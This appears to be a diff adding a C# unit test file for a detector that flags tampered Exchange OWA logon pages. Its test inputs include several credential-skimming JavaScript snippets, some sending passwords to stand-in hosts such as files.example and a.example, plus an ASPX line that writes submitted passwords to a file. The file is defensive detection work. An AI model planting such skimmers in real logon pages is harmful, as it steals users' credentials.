@@ -1,0 +1,52 @@
+using System.Text;
+using Breakwater.Model;
+
+namespace Breakwater.Detection.Tests.WebFiles;
+
+/// <summary>The password may be shown, copied and checked on its page; it may not leave it.</summary>
+public sealed class LogonPageTest
+{
+    private const string Auth = "C:/Program Files/Microsoft/Exchange Server/V15/FrontEnd/HttpProxy/owa/auth/";
+    private const string Script = Auth + "15.1.2507/scripts/premium/flogon.js";
+
+    [Theory]
+    [InlineData("var d = escape(gbid(\"username\").value + \"\\t\" + gbid(\"password\").value); var x = new XMLHttpRequest(); x.open(\"POST\", \"/owa/auth/a.aspx\", true); x.send(d);")]
+    [InlineData("var clkLgn = function(){ var p = document.getElementById('password').value; var all = u + ':' + p; new Image().src = 'https://files.example/x.png?' + btoa(all); }")]
+    [InlineData("$.post('/owa/auth/x.ashx', { u: $('#username').val(), p: $('#password').val() });")]
+    [InlineData("fetch('//a.example/', { method: 'POST', body: document.logonForm.password.value })")]
+    [InlineData("let secret = gbid(\"passwordText\").value; document.cookie = \"logondata=\" + secret;")]
+    [InlineData("navigator.sendBeacon('/owa/auth/b.aspx', document.querySelector('input[name=\"password\"]').value);")]
+    public void PasswordThatLeaves_IsHigh(string script)
+    {
+        var trace = Assert.Single(Examine(Script, script));
+        Assert.Equal(("owa-logon-page", Rung.Credentials, Confidence.High), (trace.Campaign, trace.Rung, trace.Confidence));
+    }
+
+    [Theory]
+    [InlineData("if (gbid(\"rdoPrvt\").checked) { document.cookie = \"logondata=acc=1&lgn=\" + gbid(\"username\").value; } gbid(\"passwordText\").value = gbid(\"password\").value;")]
+    [InlineData("if (document.getElementById('password').value == '') { window.location = '/owa/auth/logon.aspx?reason=2'; }")]
+    [InlineData("var x = new XMLHttpRequest(); x.open('GET', '/owa/auth/15.1.2507/news.txt', true); x.send(); var p = gbid('password').value.length;")]
+    [InlineData("")]
+    public void PasswordThatStays_IsNoTrace(string script) => Assert.Empty(Examine(Script, script));
+
+    [Fact]
+    public void PasswordThatTheServerWritesDown_IsHigh()
+    {
+        var page = Pages.Logon + "<%@ Import namespace=\"System.IO\"%><% File.AppendAllText(Server.MapPath(\"x.png\"), Request.Form[\"username\"] + Request.Form[\"password\"]); %>";
+        Assert.Equal("owa-logon-page", Assert.Single(Examine(Auth + "logon.aspx", page)).Campaign);
+    }
+
+    [Fact]
+    public void SameScriptElsewhere_IsNoLogonPage() => Assert.Empty(Examine("C:/inetpub/wwwroot/portal/login.js", "$.post('/login', { p: $('#password').val() });"));
+
+    [Fact]
+    public void LongScriptWithoutEnd_IsReadInTime()
+    {
+        var text = string.Concat(Enumerable.Repeat("a=password.value+b=", 40_000));
+        var start = Environment.TickCount64;
+        _ = Examine(Script, text);
+        Assert.InRange(Environment.TickCount64 - start, 0, 30_000);
+    }
+
+    private static IReadOnlyList<FileTrace> Examine(string path, string text) => Pages.Detector("15.1.2507.16").Examine(Pages.File(path, Encoding.UTF8.GetBytes(text)));
+}
